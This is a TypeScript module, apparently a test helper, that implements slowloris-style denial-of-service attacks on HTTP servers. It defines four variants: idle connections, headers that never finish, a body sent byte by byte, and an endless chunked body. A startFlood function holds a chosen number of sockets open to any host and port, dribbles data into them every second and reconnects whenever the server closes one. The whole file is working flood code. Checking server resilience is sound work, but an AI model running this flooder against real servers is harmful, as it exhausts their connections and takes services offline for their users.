import { connect, type Socket } from 'node:net';

/** Delay until a closed connection is opened again. */
const RECONNECT_MS = 100;
const DRIP_MS = 1_000;

/** Data that a caller sends on each connection. */
export interface Attack {
  /** Sent at once; absent: nothing. */
  first?: string;
  /** Sent every second after it. */
  drip?: string;
}

/** Ways to keep a connection of a server open without a complete request. @param head - request line and headers without the empty line */
export function attacksOn(head: string): Record<string, Attack> {
  return {
    idle: {},
    'with headers that never end': { first: head, drip: 'x: y\r\n' },
    'with a body that comes byte by byte': {
      first: `${head}Content-Type: application/json\r\nContent-Length: 9000\r\n\r\n`,
      drip: ' ',
    },
    'with a body in chunks that never ends': {
      first: `${head}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`,
      drip: '1\r\n \r\n',
    },
  };
}

/** A running flood. */
export interface Flood {
  end(): void;
}

/** Server under attack. */
export interface Target {
  port: number;
  host: string;
  connections: number;
  /** Source address; absent: chosen by the system. */
  localAddress?: string;
  /** Whether connections that the server closes are opened again; default true. */
  reconnect?: boolean;
}

/** Keeps connections to a port open. */
export function startFlood(target: Target, { first, drip }: Attack): Flood {
  const { port, host, localAddress, reconnect = true } = target;
  const held = new Set<Socket>();
  let isEnded = false;
  const hold = () => {
    if (isEnded) return;
    const socket = connect({ port, host, localAddress });
    held.add(socket);
    socket.on('error', () => {});
    socket.once('connect', () => first && socket.write(first));
    // Responses are read, so that the server can close.
    socket.resume();
    socket.once('close', () => {
      held.delete(socket);
      if (reconnect) setTimeout(hold, RECONNECT_MS).unref();
    });
  };
  for (let i = 0; i < target.connections; i += 1) hold();
  const dripping = setInterval(() => {
    if (drip) for (const socket of held) socket.write(drip);
  }, DRIP_MS);
  return {
    end: () => {
      isEnded = true;
      clearInterval(dripping);
      for (const socket of held) socket.destroy();
    },
  };
}
